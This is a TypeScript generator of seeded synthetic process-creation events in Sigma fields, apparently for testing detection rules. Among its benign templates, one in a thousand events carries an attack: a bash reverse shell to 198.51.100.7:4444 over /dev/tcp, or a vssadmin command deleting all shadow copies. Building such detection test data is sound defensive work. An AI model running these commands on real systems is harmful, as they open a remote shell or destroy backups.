// SPDX-License-Identifier: Apache-2.0
/**
 * Events for the lane `detect` where no generator of the peers is at hand: seeded, so the same seed gives the same bytes.
 * Input: lane, number, seed. Output: NDJSON lines in the field names of Sigma; one in a thousand is an attack.
 */

const WORDS = ['ledger', 'harbour', 'meadow', 'invoice', 'report', 'planner', 'orchid', 'granite', 'billing', 'atlas', 'copper', 'lantern'];
const LINUX: readonly (readonly [string, string])[] = [
  ['/usr/sbin/cron', '/usr/sbin/CRON -f'],
  ['/usr/bin/dash', '/bin/sh -c /opt/%w/bin/rotate --keep %n'],
  ['/usr/bin/python3.11', '/usr/bin/python3 /srv/%w/manage.py runjob --id %n'],
  ['/usr/bin/git', 'git fetch --prune origin %w-%n'],
  ['/usr/bin/grep', 'grep -c %w /srv/%w/data-%n.txt'],
  ['/usr/bin/containerd-shim-runc-v2', '/usr/bin/containerd-shim-runc-v2 -namespace moby -id %n%n -address /run/containerd.sock'],
  ['/usr/lib/postgresql/15/bin/postgres', 'postgres: 15/main: %w app 10.0.1.7(%n) idle'],
  ['/usr/bin/make', 'make -j4 -C /srv/%w all'],
];
const WINDOWS: readonly (readonly [string, string])[] = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --id=%n',
  ],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe %w'],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe -c core.quotepath=false status -z -uall --branch %w'],
  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c "C:\\jobs\\%w\\nightly.cmd %n"'],
  ['C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\system32\\msiexec.exe /V'],
];
const ATTACKS = {
  linux: ['/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
  windows: ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
} as const;

/** A small generator of numbers from 0 to 1 (mulberry32). */
const seeded = (seed: number): (() => number) => {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
};

/** `n` process events as JSON lines. */
export const sigmaEvents = (lane: 'linux' | 'windows', n: number, seed = 1): readonly string[] => {
  const random = seeded(seed);
  const pick = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)] as T;
  const fill = (text: string): string =>
    text.replace(/%w/g, () => pick(WORDS)).replace(/%n/g, () => String(1000 + Math.floor(random() * 1e7)));
  const templates = lane === 'linux' ? LINUX : WINDOWS;
  return Array.from({ length: n }, (_, i) => {
    const [image, command] = i % 1000 === 999 ? ATTACKS[lane] : pick(templates);
    const event = {
      '@timestamp': new Date(1_767_225_600_000 + i * 40).toISOString(),
      product: lane,
      category: 'process_creation',
      'host.name': `${pick(WORDS)}-${Math.floor(random() * 200)}`,
      Image: image,
      CommandLine: fill(command),
      ParentImage: pick(templates)[0],
      ParentCommandLine: pick(templates)[0],
      User: pick(WORDS),
      ProcessId: Math.floor(random() * 60_000),
      ParentProcessId: Math.floor(random() * 60_000),
      CurrentDirectory: lane === 'linux' ? '/srv' : 'C:\\Windows\\system32\\',
    };
    return JSON.stringify(event);
  });
};
